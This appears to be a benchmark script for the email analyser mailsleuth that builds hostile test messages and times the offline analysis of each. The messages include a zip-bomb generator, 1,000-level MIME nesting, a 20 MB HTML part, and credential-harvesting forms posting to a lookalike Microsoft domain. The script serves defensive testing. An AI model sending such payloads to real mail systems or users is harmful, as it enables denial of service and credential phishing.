"""Crafted hostile messages, each analysed offline through mailsleuth.api.analyze; prints the time
and the findings that describe the damage. Run: .venv/bin/python bench/hostile.py

With ``--corpus DIR`` it prints instead the per-message cost of the body checks alone over
every .eml under DIR (best of 5 runs each).

Not a timed test (machines differ); tests/unit/test_bad_input.py holds the same cases to a
generous bound. Aim (issue 6): each case under 2 seconds.
"""

from __future__ import annotations

import base64
import io
import sys
import time
import zipfile
from collections.abc import Callable
from pathlib import Path

HEAD = (b"From: Sender <sender@example.com>\nTo: reader@example.org\nSubject: hostile case\n"
        b"Date: Mon, 1 Jan 2024 10:00:00 +0000\nMessage-ID: <hostile@example.com>\nMIME-Version: 1.0\n")


def zip_bomb() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("zeros.bin", b"\0" * (64 * 1024 * 1024))
        for i in range(2500):
            zf.writestr(f"f{i}.txt", b"")
    payload = base64.encodebytes(buf.getvalue())
    return (HEAD + b'Content-Type: multipart/mixed; boundary="b"\n\n--b\nContent-Type: text/plain\n\nsee attached\n'
            b'--b\nContent-Type: application/zip; name="docs.zip"\nContent-Disposition: attachment; filename="docs.zip"\n'
            b"Content-Transfer-Encoding: base64\n\n" + payload + b"--b--\n")


def deep_nesting(levels: int = 1000) -> bytes:
    out = [HEAD + b'Content-Type: multipart/mixed; boundary="b0"\n\n']
    for i in range(1, levels):
        out.append(f'--b{i - 1}\nContent-Type: multipart/mixed; boundary="b{i}"\n\n'.encode())
    out.append(f"--b{levels - 1}\nContent-Type: text/plain\n\ndeep\n".encode())
    for i in range(levels - 1, -1, -1):
        out.append(f"--b{i}--\n".encode())
    return b"".join(out)


def many_links(n: int = 100_000) -> bytes:
    body = "".join(f'<a href="https://host{i}.example.com/p?{i}">link {i}</a>\n' for i in range(n))
    return HEAD + b"Content-Type: text/html; charset=utf-8\n\n<html><body>" + body.encode() + b"</body></html>\n"


def big_html(size: int = 20 * 1024 * 1024) -> bytes:
    chunk = '<div class="x"><p>filler text <b>bold</b> and <a href="https://www.example.com/a">a link</a></p></div>\n'
    body = chunk * (size // len(chunk))
    tail = '<form action="https://harvest.example.net/collect"><input type="password" name="p"></form>'
    return HEAD + b"Content-Type: text/html; charset=utf-8\n\n<html><body>" + (body + tail).encode() + b"</body></html>\n"


def lookalike_form() -> bytes:
    html = ('<html><body><p>Your mailbox is full. Sign in to keep receiving mail.</p>'
            '<form method="post" action="https://login.rnicrosoft-online.example/owa/auth.php">'
            '<input name="email"><input type="password" name="pass"><button>Sign in</button></form></body></html>')
    return HEAD + b"Content-Type: text/html; charset=utf-8\n\n" + html.encode() + b"\n"


CASES: dict[str, Callable[[], bytes]] = {
    "zip bomb (64 MiB in one member, 2,500 members)": zip_bomb,
    "1,000-level MIME nesting": deep_nesting,
    "100,000 links": many_links,
    "HTML part of 20 MB": big_html,
    "form posting to a lookalike": lookalike_form,
}


def corpus_costs(root: Path) -> None:
    """Per-message cost of the body checks alone over a corpus (best of 5 runs per message)."""
    from mailsleuth import engine
    from mailsleuth.config import Config
    from mailsleuth.dns.cache import CachingResolver
    from mailsleuth.dns.off import OfflineResolver
    from mailsleuth.parse.message import parse_message

    specs = engine.load_checks()
    cfg = Config(dns_mode="off")
    msgs = [parse_message(p.read_bytes()) for p in sorted(root.rglob("*.eml"))]
    for check_id in ("body.links", "body.attachments"):
        sub = {check_id: specs[check_id]}
        per = []
        for m in msgs:
            best = float("inf")
            for _ in range(5):
                ctx = engine.Context(m, cfg, CachingResolver(OfflineResolver()))
                t0 = time.perf_counter()
                engine.run_checks(ctx, sub)
                best = min(best, time.perf_counter() - t0)
            per.append(best * 1000)
        per.sort()
        n = len(per)
        print(f"{check_id}: {n} messages, mean {sum(per) / n:.3f} ms, p50 {per[n // 2]:.3f} ms, "
              f"p90 {per[int(n * 0.9)]:.3f} ms, p99 {per[min(n - 1, int(n * 0.99))]:.2f} ms")


def main() -> int:
    from mailsleuth.api import analyze
    from mailsleuth.config import Config

    if len(sys.argv) > 2 and sys.argv[1] == "--corpus":
        corpus_costs(Path(sys.argv[2]))
        return 0
    cfg = Config(dns_mode="off")
    t0 = time.perf_counter()
    analyze(HEAD + b"Content-Type: text/plain\n\nwarm-up: loads checks and data once\n", config=cfg)
    print(f"{time.perf_counter() - t0:7.3f}s  first message (loads every check and data file once)")
    worst = 0.0
    for name, make in CASES.items():
        raw = make()
        t0 = time.perf_counter()
        report = analyze(raw, config=cfg)
        elapsed = time.perf_counter() - t0
        worst = max(worst, elapsed)
        codes = sorted({f.code for f in report.findings
                        if f.code.startswith(("LINK_", "BODY_", "ATTACH_", "INPUT_", "BRAND_"))})
        print(f"{elapsed:7.3f}s  {len(raw) / 1e6:7.2f} MB  {name}: {report.verdict.label.value}; {', '.join(codes)}")
    print(f"worst {worst:.3f}s (aim: under 2 s each)")
    return 0


if __name__ == "__main__":
    sys.exit(main())
